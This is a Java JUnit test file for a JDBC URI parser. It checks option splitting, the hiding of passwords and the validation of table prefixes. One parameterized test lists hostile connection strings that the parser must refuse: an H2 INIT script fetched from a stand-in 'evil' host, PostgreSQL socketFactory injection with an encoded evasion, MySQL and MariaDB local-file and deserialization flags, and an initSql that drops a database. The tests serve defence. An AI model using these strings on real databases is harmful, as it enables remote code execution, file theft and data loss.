package io.wrkr.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUriTest {
  @Test
  void options_of_wrkr_are_taken_out_and_those_of_the_driver_kept() {
    JdbcUri uri =
        JdbcUri.parse("jdbc:postgresql://db/app?user=me&prefix=bus&ssl=true&connections=3");

    assertThat(uri.driver()).isEqualTo("jdbc:postgresql://db/app?user=me&ssl=true");
    assertThat(uri.options().prefix()).isEqualTo("bus");
    assertThat(uri.connections()).isEqualTo(3);
  }

  @Test
  void what_is_shown_has_no_secret() {
    assertThat(JdbcUri.parse("jdbc:mysql://me:s3cr3t@db/app?password=s3cr3t").shown())
        .isEqualTo("jdbc:mysql://db/app");
    assertThat(JdbcUri.parse("jdbc:h2:mem:x;PASSWORD=s3cr3t").shown()).isEqualTo("jdbc:h2:mem:x");
  }

  @Test
  void user_before_the_host_is_refused_unshown_where_the_driver_knows_none() {
    assertThatThrownBy(() -> JdbcUri.parse("jdbc:postgresql://me:secret@host/db"))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("?user=")
        .hasMessageNotContaining("secret");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2:mem:x;init=SELECT 1",
        "jdbc:postgresql://db/x?socketFactory=evil.Factory&socketFactoryArg=x",
        "jdbc:postgresql://db/x?socketF%61ctory=evil.Factory",
        "jdbc:mysql://db/x?autoDeserialize=true",
        "jdbc:mysql://db/x?allowLoadLocalInfile=true",
        "jdbc:mariadb://db/x?allowLocalInfile=true",
        "jdbc:mariadb://db/x?a=1;initSql=DROP DATABASE x"
      })
  void options_that_run_code_or_read_files_are_refused(String uri) {
    assertThatThrownBy(() -> JdbcUri.parse(uri))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("can run code or read files")
        .hasMessageNotContaining("evil");
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "1x", "X", "a-b", "x\";--", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"})
  void other_prefixes_than_plain_identifiers_are_refused(String prefix) {
    assertThatThrownBy(() -> JdbcUri.parse("sqlite:x.db?prefix=" + prefix))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("table prefix");
  }

  @ParameterizedTest
  @ValueSource(strings = {"sqlite:", "sqlite::memory:", "oracle:x", "sqlite:x.db?synchronous=OFF"})
  void a_uri_that_names_nothing_is_refused_with_a_remedy(String uri) {
    assertThatThrownBy(() -> new JdbcProvider().open(uri))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("give");
  }

  @Test
  void hints_are_on_unless_switched_off() {
    assertThat(JdbcUri.parse("jdbc:postgresql://h/d").options().hinted()).isTrue();
    assertThat(JdbcUri.parse("jdbc:postgresql://h/d?hints=off").options().hinted()).isFalse();
    assertThatThrownBy(() -> JdbcUri.parse("jdbc:postgresql://h/d?hints=2"))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("hints is '2': give on or off");
  }
}
